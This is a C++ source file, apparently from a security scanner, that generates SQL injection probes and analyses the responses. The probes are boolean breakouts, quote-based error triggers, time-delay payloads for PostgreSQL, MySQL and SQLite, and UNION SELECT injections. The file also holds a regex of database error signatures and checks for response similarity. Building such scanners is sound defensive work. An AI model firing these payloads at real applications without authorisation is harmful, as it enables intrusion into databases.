#include "sqli_payloads.hpp"

#include <algorithm>
#include <cmath>
#include <regex>

#include <nlohmann/json.hpp>

namespace rsolv::security::sqli {

std::string Context::with(const std::string& value, const std::string& condition) const {
  return value + close + " AND " + condition + reopen;
}

const std::vector<Context>& boolean_contexts() {
  // The condition is spliced between `close` and `reopen`; e.g. single quote, true:
  //   acme' AND 1=1 AND '1'='1      ->  WHERE name = 'acme' AND 1=1 AND '1'='1'
  static const std::vector<Context> contexts = {
      {"single quote", "'", " AND '1'='1"},
      {"double quote", "\"", " AND \"1\"=\"1"},
      {"no quote", "", ""},
      {"parenthesis", ")", " AND (1=1"},
      {"quote and parenthesis", "')", " AND ('1'='1"},
      {"quote and two parentheses", "'))", " AND (('1'='1"},
      {"LIKE %'", "%'", " AND '%'='"},
      {"single quote, comment", "'", "-- "},
      {"double quote, comment", "\"", "-- "},
      {"no quote, comment", "", "-- "},
      {"quote and parenthesis, comment", "')", "-- "},
  };
  return contexts;
}

const std::vector<Context>& union_contexts() {
  static const std::vector<Context> contexts = {
      {"single quote, comment", "'", "-- "},
      {"double quote, comment", "\"", "-- "},
      {"no quote, comment", "", "-- "},
      {"LIKE %', comment", "%'", "-- "},
  };
  return contexts;
}

const std::vector<Context>& time_contexts() {
  static const std::vector<Context> contexts = {
      {"single quote", "'", " AND '1'='1"},
      {"double quote", "\"", " AND \"1\"=\"1"},
      {"no quote", "", ""},
      {"LIKE %'", "%'", " AND '%'='"},
  };
  return contexts;
}

std::vector<std::string> error_payloads(const std::string& value) {
  return {value + "'", value + "\"", value + "')", value + "'))", value + "\\", value + "`"};
}

std::vector<TimePayload> time_payloads(const std::string& value, const Context& context) {
  return {
      {"PostgreSQL", context.with(value, "(SELECT 1 FROM pg_sleep(2)) IS NOT NULL"),
       context.with(value, "(SELECT 1 FROM pg_sleep(0)) IS NOT NULL")},
      {"MySQL", context.with(value, "SLEEP(2)=0"), context.with(value, "SLEEP(0)=0")},
      {"SQLite", context.with(value, "(WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i+1 FROM n WHERE i<3000000) SELECT count(*) FROM n)>0"),
       context.with(value, "(WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i+1 FROM n WHERE i<0000003) SELECT count(*) FROM n)>0")},
  };
}

std::string union_payload(const std::string& value, const Context& context, int columns, const std::string& marker) {
  std::string select;
  for (int i = 0; i < columns; ++i) select += (i ? ",'" : "'") + marker + "'";
  // A false condition first, so only the injected row comes back.
  return value + context.close + " AND 1=2 UNION SELECT " + select + context.reopen;
}

bool has_sql_error(const std::string& body) {
  static const std::regex signatures(
      // SQLite
      R"(SQLITE_ERROR|sqlite3\.|SQLite3::|unrecognized token|near ".*": syntax error|SQL logic error|)"
      R"(incomplete input|no such column|)"
      // PostgreSQL
      R"(syntax error at or near|unterminated quoted string|invalid input syntax for|PG::SyntaxError|)"
      R"(PSQLException|pg_query\(\)|Postgrex\.Error|ERROR:\s+syntax error|)"
      // MySQL / MariaDB
      R"(You have an error in your SQL syntax|check the manual that corresponds to your (MySQL|MariaDB)|)"
      R"(mysqli?_|MySqlException|com\.mysql\.jdbc|)"
      // others and generic drivers
      R"(ORA-\d{5}|Unclosed quotation mark|SQLSTATE\[|Ecto\.Query)",
      std::regex::icase);
  return std::regex_search(body, signatures);
}

std::string url_encode(const std::string& text) {
  static constexpr char kHex[] = "0123456789ABCDEF";
  std::string encoded;
  for (unsigned char c : text) {
    if (std::isalnum(c) || c == '-' || c == '_' || c == '.' || c == '~') {
      encoded += static_cast<char>(c);
    } else {
      encoded += '%';
      encoded += kHex[c >> 4];
      encoded += kHex[c & 15];
    }
  }
  return encoded;
}

std::string without_echoes(std::string body, const std::vector<std::string>& echoes) {
  const auto erase_all = [&body](const std::string& text) {
    if (text.size() < 3) return;
    for (auto at = body.find(text); at != std::string::npos; at = body.find(text, at)) body.erase(at, text.size());
  };
  // Longest first: the payload contains the original value.
  auto sorted = echoes;
  std::sort(sorted.begin(), sorted.end(), [](const auto& a, const auto& b) { return a.size() > b.size(); });
  for (const auto& echo : sorted) {
    const auto escaped = nlohmann::json(echo).dump();
    erase_all(escaped.substr(1, escaped.size() - 2));
    erase_all(url_encode(echo));
    erase_all(echo);
  }
  return body;
}

std::string shape(const std::string& body, const std::vector<std::string>& echoes) {
  // Random tokens (keys, UUIDs, request ids) first, then numbers: both vary between identical requests.
  static const std::regex token("[A-Za-z0-9_-]{16,}");
  static const std::regex digits("[0-9]+");
  return std::regex_replace(std::regex_replace(without_echoes(body, echoes), token, "T"), digits, "0");
}

bool similar(long status_a, const std::string& shape_a, long status_b, const std::string& shape_b) {
  if (status_a != status_b) return false;
  const auto la = static_cast<double>(shape_a.size()), lb = static_cast<double>(shape_b.size());
  return std::abs(la - lb) <= std::max(8.0, 0.05 * std::max(la, lb));
}

}  // namespace rsolv::security::sqli
